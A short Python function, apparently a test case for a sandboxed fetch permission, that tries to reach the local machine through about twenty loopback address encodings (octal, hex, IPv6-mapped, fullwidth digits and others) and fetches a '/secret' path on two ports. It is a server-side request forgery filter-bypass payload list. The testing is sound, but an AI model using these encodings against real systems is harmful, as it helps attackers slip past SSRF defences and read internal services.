# This machine, in each way that there is to write its address.
# after: connect
# source: SSRF
# granted: fetch
def attack(tcp, web, site, **_):
    name = site.rpartition("/")[2]
    for host in ("127.0.0.1", "127.1", "0177.0.0.1", "0x7f.0.0.1", "2130706433", "0x7f000001", "017700000001", "localhost", "localhost.",
                 "LOCALHOST", "[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "0", "0.0.0.0", "127.0.0.1.", "127.000.000.001",
                 "①②⑦.0.0.1", "127。0。0。1", "[::]", "[::127.0.0.1]"):
        for port in (tcp, web):
            for path in ("/", f"/{name}/secret"):
                try:
                    fetch(f"http://{host}:{port}{path}")
                except (OSError, ValueError):
                    continue
